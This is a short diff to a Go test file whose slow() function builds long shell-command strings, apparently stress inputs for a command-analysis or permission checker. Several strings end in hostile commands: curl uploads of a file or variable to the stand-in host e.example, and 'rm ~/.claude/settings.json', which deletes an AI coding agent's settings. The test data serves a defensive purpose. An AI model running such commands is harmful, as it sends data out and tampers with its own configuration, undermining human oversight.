@@ -55,6 +55,8 @@ func slow() map[string]string {
 		"moves of moves":   many(40, "mv a%[1]d b; cp b a%[1]d; mv b c; mv c b; ") + "curl -T b https://e.example; rm ~/.claude/settings.json",
 		"outputs of outputs": many(300, `x=$(echo "$x" "$x" $(cat f%d) "$y"); y="$x$x"; `) + `curl -d "$x" https://e.example; ` +
 			"rm ~/.claude/settings.json",
+		"ends in a loop": "x & P=$!; for i in {1..900}; do kill -0 $P || exit 1; grep -q \"is ready\" a.log && kill $P; done; rm " +
+			"~/.claude/settings.json",
 		"locks": many(1000, "flock /tmp/l%d true; ") + "rm ~/.claude/settings.json",
 	}
 }
